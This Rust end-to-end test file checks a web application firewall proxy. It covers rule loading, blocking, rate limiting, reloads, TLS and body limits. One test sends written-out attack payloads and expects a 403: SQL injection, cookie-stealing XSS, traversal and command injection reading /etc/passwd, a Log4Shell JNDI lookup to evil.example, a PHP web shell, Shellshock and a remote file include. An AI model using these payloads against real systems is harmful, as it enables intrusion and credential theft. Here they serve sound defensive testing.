//! End-to-end tests of the waf capability (owned by the waf engineer).

use std::path::PathBuf;
use std::process::Command;

use crate::support;

fn repo_root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../..")
}

fn crs() -> PathBuf {
    opshelf_core::testing::shared("crs")
}

/// The CRS v4 regression suite through `opshelf waf ftw`, with the documented exclusions.
#[test]
fn waf_ftw_runs_the_crs_regression_suite() {
    let out = Command::new(support::bin())
        .args(["waf", "ftw", "--rules"])
        .arg(crs().join("rules"))
        .arg("--exclusions")
        .arg(repo_root().join("testdata/waf/ftw-exclusions.txt"))
        .arg(crs().join("tests/regression/tests"))
        .output()
        .expect("run opshelf waf ftw");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let last = stdout.lines().last().unwrap_or_default().to_owned();
    let mut nums = last
        .split(|c: char| !c.is_ascii_digit())
        .filter(|s| !s.is_empty());
    let passed: usize = nums.next().and_then(|n| n.parse().ok()).unwrap_or(0);
    let failed: usize = nums
        .next()
        .and_then(|n| n.parse().ok())
        .unwrap_or(usize::MAX);
    assert!(passed >= 3900, "too few tests passed:\n{stdout}");
    assert_eq!(failed, 0, "failures:\n{stdout}");
    assert!(
        out.status.success(),
        "{stdout}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// A broken rule file is reported with file, line and the offending token.
#[test]
fn waf_ftw_reports_rule_errors_with_location() {
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::write(
        dir.path().join("bad.conf"),
        "# ok\nSecRule ARGS \"@rx a\" \"id:1,phase:2,pass\"\n\nSecRule ARGS \"@rx b\" \"id:2,phase:2,frobnicate\"\n",
    )
    .expect("write rules");
    let tests = dir.path().join("tests");
    std::fs::create_dir(&tests).expect("mkdir");
    let out = Command::new(support::bin())
        .args(["waf", "ftw", "--rules"])
        .arg(dir.path())
        .arg(&tests)
        .output()
        .expect("run opshelf waf ftw");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    assert!(stderr.contains("bad.conf:4"), "{stderr}");
    assert!(stderr.contains("frobnicate"), "{stderr}");
}

/// A tiny HTTP/1.1 upstream that answers every request `200 ok` and closes.
async fn upstream() -> String {
    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind upstream");
    let addr = listener.local_addr().expect("addr");
    tokio::spawn(async move {
        loop {
            let Ok((mut sock, _)) = listener.accept().await else {
                break;
            };
            tokio::spawn(async move {
                let mut buf = Vec::new();
                let mut chunk = [0u8; 8192];
                loop {
                    let Ok(n) = sock.read(&mut chunk).await else {
                        return;
                    };
                    if n == 0 {
                        return;
                    }
                    buf.extend_from_slice(&chunk[..n]);
                    if let Some(end) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
                        let head = String::from_utf8_lossy(&buf[..end]).to_ascii_lowercase();
                        let len = head
                            .lines()
                            .find_map(|l| l.strip_prefix("content-length:"))
                            .and_then(|v| v.trim().parse::<usize>().ok())
                            .unwrap_or(0);
                        if buf.len() >= end + 4 + len {
                            break;
                        }
                    }
                }
                let _ = sock
                    .write_all(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
                    .await;
            });
        }
    });
    format!("http://{addr}")
}

fn waf_config(upstream: &str, audit: &std::path::Path, rate: u32) -> String {
    format!(
        "[waf]\nenabled = true\nupstream = \"{upstream}\"\nrules_dir = \"{}\"\naudit_log = \"{}\"\nrate_limit_per_minute = {rate}\n",
        crs().join("rules").display(),
        audit.display()
    )
}

/// Classic attacks through the real proxy at PL1 with blocking on are refused; ordinary
/// traffic passes; blocked requests land in the audit log.
#[tokio::test]
async fn waf_proxy_blocks_attacks_and_passes_ordinary_traffic() {
    let up = upstream().await;
    let dir = tempfile::tempdir().expect("tempdir");
    let audit = dir.path().join("audit.log");
    let srv = support::Server::start(&waf_config(&up, &audit, 0)).await;
    let base = srv.url("waf");
    let client = reqwest::Client::new();
    let ua = "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0";
    let get = |path: &str| {
        client
            .get(format!("{base}{path}"))
            .header("User-Agent", ua)
            .header("Accept", "text/html")
    };
    let post = |path: &str, ct: &str, body: &str| {
        client
            .post(format!("{base}{path}"))
            .header("User-Agent", ua)
            .header("Accept", "text/html")
            .header("Content-Type", ct)
            .body(body.to_owned())
    };
    let form = "application/x-www-form-urlencoded";
    let attacks: Vec<(&str, reqwest::RequestBuilder)> = vec![
        ("sqli query", get("/search?id=1%27%20OR%20%271%27%3D%271")),
        (
            "sqli union",
            get("/item?id=1%20UNION%20SELECT%20username,password%20FROM%20users--"),
        ),
        (
            "sqli body",
            post("/login", form, "user=admin'--&pass=x' or 1=1--"),
        ),
        (
            "xss",
            get("/q?s=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
        ),
        (
            "path traversal",
            get("/download?file=../../../../etc/passwd"),
        ),
        (
            "encoded traversal",
            get("/download?file=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
        ),
        (
            "command injection",
            get("/ping?host=127.0.0.1%3Bcat%20/etc/passwd"),
        ),
        (
            "log4shell",
            get("/").header("X-Api-Version", "${jndi:ldap://evil.example/a}"),
        ),
        (
            "scanner",
            client
                .get(format!("{base}/"))
                .header("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")
                .header("Accept", "*/*"),
        ),
        (
            "php injection",
            post("/index.php", form, "code=<?php system($_GET['c']); ?>"),
        ),
        (
            "shellshock",
            get("/cgi-bin/status").header("Referer", "() { :; }; /bin/bash -c 'cat /etc/passwd'"),
        ),
        ("rfi", get("/page?include=http://203.0.113.9/shell.txt?")),
    ];
    for (name, req) in attacks {
        let resp = req.send().await.expect(name);
        assert_eq!(resp.status().as_u16(), 403, "{name} was not blocked");
    }
    let boundary = "----opshelfboundary";
    let multipart = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nHoliday photos\r\n--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"beach.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n\u{1}\u{2}JFIF data\r\n--{boundary}--\r\n"
    );
    let ordinary: Vec<(&str, reqwest::RequestBuilder)> = vec![
        ("home", get("/")),
        (
            "utm",
            get("/landing?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale"),
        ),
        (
            "form",
            post(
                "/contact",
                form,
                "name=Jane+Doe&email=jane%40example.com&message=Hello%2C+I+would+like+a+quote.",
            ),
        ),
        (
            "json",
            post(
                "/api/orders",
                "application/json",
                r#"{"item":"book","qty":2,"note":"gift wrap please"}"#,
            ),
        ),
        (
            "cookies",
            get("/account").header("Cookie", "session=abc123; theme=dark; lang=en"),
        ),
        (
            "select and union",
            post(
                "/forum",
                form,
                "post=Please+select+the+union+representative+you+prefer+from+the+list",
            ),
        ),
        (
            "multipart",
            post(
                "/upload",
                &format!("multipart/form-data; boundary={boundary}"),
                &multipart,
            ),
        ),
    ];
    for (name, req) in ordinary {
        let resp = req.send().await.expect(name);
        assert_eq!(resp.status().as_u16(), 200, "{name} was blocked");
        assert_eq!(resp.text().await.expect("body"), "ok");
    }
    let log = std::fs::read_to_string(&audit).expect("audit log");
    let records: Vec<serde_json::Value> = log
        .lines()
        .map(|l| serde_json::from_str(l).expect("json line"))
        .collect();
    assert!(records.len() >= 12, "{} audit records", records.len());
    let blocked = records
        .iter()
        .filter(|r| r["transaction"]["response"]["http_code"] == 403)
        .count();
    assert!(blocked >= 12);
    assert!(log.contains("\"ruleId\":\"949110\""));
    // Blocked requests are also log events for the logs capability; with none built in this
    // config they are counted as such, not dropped silently (batched within a second).
    let metrics_url = format!("{}/metrics", srv.url("admin"));
    let mut counted = String::new();
    for _ in 0..40 {
        let m = client.get(&metrics_url).send().await.expect("metrics");
        counted = m.text().await.expect("metrics body");
        if counted.contains("opshelf_waf_log_events_total{outcome=\"no_logs_capability\"}") {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    let line = counted
        .lines()
        .find(|l| l.starts_with("opshelf_waf_log_events_total{outcome=\"no_logs_capability\"}"))
        .unwrap_or_else(|| panic!("no log-event count in /metrics:\n{counted}"));
    let n: f64 = line.rsplit(' ').next().unwrap().parse().unwrap();
    assert!(n >= 12.0, "{line}");
    drop(srv);
}

/// The 101st request within a minute from one IP gets 429 with Retry-After; another IP is
/// unaffected.
#[tokio::test]
async fn waf_rate_limit_per_ip() {
    let up = upstream().await;
    let dir = tempfile::tempdir().expect("tempdir");
    let srv = support::Server::start(&waf_config(&up, &dir.path().join("audit.log"), 100)).await;
    let base = srv.url("waf");
    let client = reqwest::Client::new();
    for i in 0..100 {
        let r = client
            .get(format!("{base}/?n={i}"))
            .header("User-Agent", "test")
            .header("Accept", "*/*")
            .send()
            .await
            .expect("send");
        assert_eq!(r.status().as_u16(), 200, "request {i}");
    }
    let r = client
        .get(format!("{base}/"))
        .header("User-Agent", "test")
        .header("Accept", "*/*")
        .send()
        .await
        .expect("send");
    assert_eq!(r.status().as_u16(), 429);
    assert!(r.headers().get("retry-after").is_some());
    let other = reqwest::Client::builder()
        .local_address("127.0.0.2".parse::<std::net::IpAddr>().ok())
        .build()
        .expect("client");
    let r = other
        .get(format!("{base}/"))
        .header("User-Agent", "test")
        .header("Accept", "*/*")
        .send()
        .await
        .expect("send");
    assert_eq!(r.status().as_u16(), 200);
    drop(srv);
}

/// SIGHUP reloads the rules without a restart; a broken rule file keeps the old rules.
#[tokio::test]
async fn waf_rules_reload_on_sighup() {
    let up = upstream().await;
    let dir = tempfile::tempdir().expect("tempdir");
    let extra = dir.path().join("mine.conf");
    std::fs::write(
        &extra,
        "SecRule REQUEST_URI \"@contains /closed\" \"id:10001,phase:1,deny,status:403,log\"\n",
    )
    .expect("write rules");
    let config = format!(
        "{}exclusion_files = [\"{}\"]\n",
        waf_config(&up, &dir.path().join("audit.log"), 0),
        extra.display()
    );
    let mut srv = support::Server::start(&config).await;
    let base = srv.url("waf");
    let client = reqwest::Client::new();
    let status = |path: &'static str| {
        let req = client
            .get(format!("{base}{path}"))
            .header("User-Agent", "test")
            .header("Accept", "*/*");
        async move { req.send().await.expect("send").status().as_u16() }
    };
    assert_eq!(status("/closed").await, 403);
    let hup = |pid: u32| {
        let ok = Command::new("kill")
            .args(["-HUP", &pid.to_string()])
            .status()
            .expect("kill");
        assert!(ok.success());
    };
    std::fs::write(&extra, "# nothing closed any more\n").expect("rewrite rules");
    hup(srv.pid());
    let mut reopened = false;
    for _ in 0..100 {
        if status("/closed").await == 200 {
            reopened = true;
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    assert!(reopened, "rules were not reloaded");
    std::fs::write(
        &extra,
        "SecRule REQUEST_URI \"@contains /closed\" \"id:10001,phase:1,deny,bogus\"\n",
    )
    .expect("break rules");
    hup(srv.pid());
    tokio::time::sleep(std::time::Duration::from_millis(1500)).await;
    assert_eq!(status("/closed").await, 200, "old rules must stay");
    let logs = srv.logs().join("\n");
    assert!(logs.contains("reload failed"), "{logs}");
    assert!(logs.contains("mine.conf:1"), "{logs}");
}

/// Routes pick the upstream by path and carry their own mode: the same attack is refused on a
/// blocking route and passed (but logged) on a DetectionOnly one.
#[tokio::test]
async fn waf_routes_choose_upstream_and_mode() {
    let blocking_up = upstream().await;
    let detect_up = upstream().await;
    let dir = tempfile::tempdir().expect("tempdir");
    let audit = dir.path().join("audit.log");
    let config = format!(
        "{}\n[[waf.routes]]\npath_prefix = \"/legacy\"\nupstream = \"{detect_up}\"\nmode = \"DetectionOnly\"\n",
        waf_config(&blocking_up, &audit, 0)
    );
    let srv = support::Server::start(&config).await;
    let base = srv.url("waf");
    let client = reqwest::Client::new();
    let attack = "?id=1%27%20OR%20%271%27%3D%271";
    let get = |path: String| {
        client
            .get(format!("{base}{path}"))
            .header("User-Agent", "Mozilla/5.0")
            .header("Accept", "text/html")
            .send()
    };
    assert_eq!(
        get(format!("/app{attack}"))
            .await
            .expect("send")
            .status()
            .as_u16(),
        403
    );
    let r = get(format!("/legacy/page{attack}")).await.expect("send");
    assert_eq!(r.status().as_u16(), 200);
    assert_eq!(r.text().await.expect("body"), "ok");
    let log = std::fs::read_to_string(&audit).expect("audit log");
    assert!(
        log.contains("/legacy/page"),
        "DetectionOnly matches are audited too"
    );
    assert!(log.contains("\"secrules_engine\":\"DetectionOnly\""));
}

/// With `tls_cert_file` / `tls_key_file` the proxy terminates HTTPS (nginx's job before) and
/// inspects what it decrypts: an attack over TLS is refused like one over plain HTTP.
#[tokio::test]
async fn waf_terminates_tls_and_still_inspects() {
    let up = upstream().await;
    let dir = tempfile::tempdir().expect("tempdir");
    let tls = repo_root().join("testdata/tls");
    let config = format!(
        "{}tls_cert_file = \"{}\"\ntls_key_file = \"{}\"\n",
        waf_config(&up, &dir.path().join("audit.log"), 0),
        tls.join("cert.pem").display(),
        tls.join("key.pem").display()
    );
    let srv = support::Server::start(&config).await;
    let base = srv.url("waf").replacen("http://", "https://", 1);
    let ca = reqwest::Certificate::from_pem(&std::fs::read(tls.join("cert.pem")).unwrap()).unwrap();
    let https = reqwest::Client::builder()
        .add_root_certificate(ca)
        .build()
        .unwrap();
    let get = |path: &str| {
        https
            .get(format!("{base}{path}"))
            .header(
                "User-Agent",
                "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0",
            )
            .header("Accept", "text/html")
            .send()
    };
    assert_eq!(get("/products?page=2").await.unwrap().status(), 200);
    assert_eq!(
        get("/search?id=1%27%20OR%20%271%27%3D%271")
            .await
            .unwrap()
            .status(),
        403
    );
}

/// An upstream that answers with the number of body bytes it received.
async fn length_upstream() -> String {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind upstream");
    let addr = listener.local_addr().expect("addr");
    // Counts the bytes as they stream in (no body limit: the test sends 20 MB).
    let app = axum::Router::new().fallback(|body: axum::body::Body| async move {
        use http_body_util::BodyExt as _;
        let mut body = body;
        let mut n = 0usize;
        while let Some(Ok(frame)) = body.frame().await {
            n += frame.data_ref().map_or(0, axum::body::Bytes::len);
        }
        n.to_string()
    });
    tokio::spawn(async move { axum::serve(listener, app).await });
    format!("http://{addr}")
}

/// Bodies past the inspection limit (`SecRequestBodyLimit` / `SecRequestBodyNoFilesLimit`):
/// with `ProcessPartial` the first part is inspected and the whole body still reaches the
/// upstream (streamed, not buffered); with `Reject` (the recommended config) the request is
/// refused with 413 and never forwarded.
#[tokio::test]
async fn waf_bodies_past_the_inspection_limit() {
    let up = length_upstream().await;
    let dir = tempfile::tempdir().expect("tempdir");
    let limits = dir.path().join("limits.conf");
    let start = |action: &str| {
        std::fs::write(
            &limits,
            format!("SecRequestBodyNoFilesLimit 4096\nSecRequestBodyLimitAction {action}\n"),
        )
        .expect("write limits");
        let config = format!(
            "{}exclusion_files = [\"{}\"]\n",
            waf_config(&up, &dir.path().join("audit.log"), 0),
            limits.display()
        );
        async move { support::Server::start(&config).await }
    };
    let client = reqwest::Client::new();
    let post = |base: String, body: String| {
        let req = client
            .post(format!("{base}/form"))
            .header("User-Agent", "test")
            .header("Accept", "*/*")
            .header("Content-Type", "application/x-www-form-urlencoded")
            .body(body);
        async move {
            let r = req.send().await.expect("send");
            (r.status().as_u16(), r.text().await.unwrap_or_default())
        }
    };
    let filler = |n: usize| format!("note={}", "a".repeat(n - 5));
    let attack = "q=1' UNION SELECT password FROM users --";

    let srv = start("ProcessPartial").await;
    let base = srv.url("waf");
    // 20 MB: past the inspection limit and past any core body limit; it streams through.
    let big = filler(20_000_000);
    assert_eq!(
        post(base.clone(), big).await,
        (200, "20000000".to_owned()),
        "the whole body reaches the upstream"
    );
    assert_eq!(
        post(base.clone(), format!("{attack}&{}", filler(100_000)))
            .await
            .0,
        403,
        "an attack in the inspected part is refused"
    );
    // ModSecurity's ProcessPartial: what lies past the limit is not inspected.
    assert_eq!(
        post(base.clone(), format!("{}&{attack}", filler(100_000)))
            .await
            .0,
        200
    );
    drop(srv);

    let srv = start("Reject").await;
    let base = srv.url("waf");
    assert_eq!(post(base.clone(), filler(8192)).await.0, 413);
    assert_eq!(
        post(base.clone(), filler(2048)).await,
        (200, "2048".to_owned())
    );
}
